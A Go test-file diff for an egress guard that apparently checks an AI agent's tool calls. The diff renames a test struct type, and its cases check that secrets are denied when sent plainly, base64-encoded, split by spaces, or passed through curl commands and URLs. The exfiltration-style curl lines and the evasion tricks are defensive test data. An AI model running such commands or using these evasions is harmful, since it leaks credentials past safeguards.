@@ -18,18 +18,18 @@ func TestEgress_DeniesSecrets(t *testing.T) {
 	f := newGuard(t, guard.Options{Secrets: set, Level: guard.Trusted, Hosts: []string{"allowed.example"}})
 	for _, tc := range []struct {
 		name string
-		tool judged
+		tool assessedTool
 		args string
 		want guard.Verdict
 	}{
-		{"sent", judged{tool: effects(tools.Send)}, `{"text":"it is ` + secret + `"}`, guard.Deny},
-		{"sent in base64", judged{tool: effects(tools.Send)}, `{"text":"` + base64.StdEncoding.EncodeToString([]byte("x "+secret)) + `"}`, guard.Deny},
-		{"sent spread out", judged{tool: effects(tools.Send)}, `{"text":"` + strings.Join(strings.Split(secret, ""), " ") + `"}`, guard.Deny},
-		{"run", judged{tool: effects(tools.Exec)}, `{"command":"curl x?` + secret + `"}`, guard.Deny},
+		{"sent", assessedTool{tool: effects(tools.Send)}, `{"text":"it is ` + secret + `"}`, guard.Deny},
+		{"sent in base64", assessedTool{tool: effects(tools.Send)}, `{"text":"` + base64.StdEncoding.EncodeToString([]byte("x "+secret)) + `"}`, guard.Deny},
+		{"sent spread out", assessedTool{tool: effects(tools.Send)}, `{"text":"` + strings.Join(strings.Split(secret, ""), " ") + `"}`, guard.Deny},
+		{"run", assessedTool{tool: effects(tools.Exec)}, `{"command":"curl x?` + secret + `"}`, guard.Deny},
 		{"fetched", browseTool("https://allowed.example/?t=" + secret), `{}`, guard.Deny},
-		{"in the resolved command", judged{effects(tools.Exec), tools.CallAssessment{Exact: "curl " + secret}}, `{}`, guard.Deny},
-		{"read", judged{tool: effects(tools.Read)}, `{"q":"` + secret + `"}`, guard.Allow},
-		{"without the secret", judged{tool: effects(tools.Send)}, `{"text":"a token"}`, guard.Ask},
+		{"in the resolved command", assessedTool{effects(tools.Exec), tools.CallAssessment{Exact: "curl " + secret}}, `{}`, guard.Deny},
+		{"read", assessedTool{tool: effects(tools.Read)}, `{"q":"` + secret + `"}`, guard.Allow},
+		{"without the secret", assessedTool{tool: effects(tools.Send)}, `{"text":"a token"}`, guard.Ask},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := guard.Request{Tool: tc.tool, Args: []byte(tc.args), Call: tc.name, Session: "s", Attended: true}
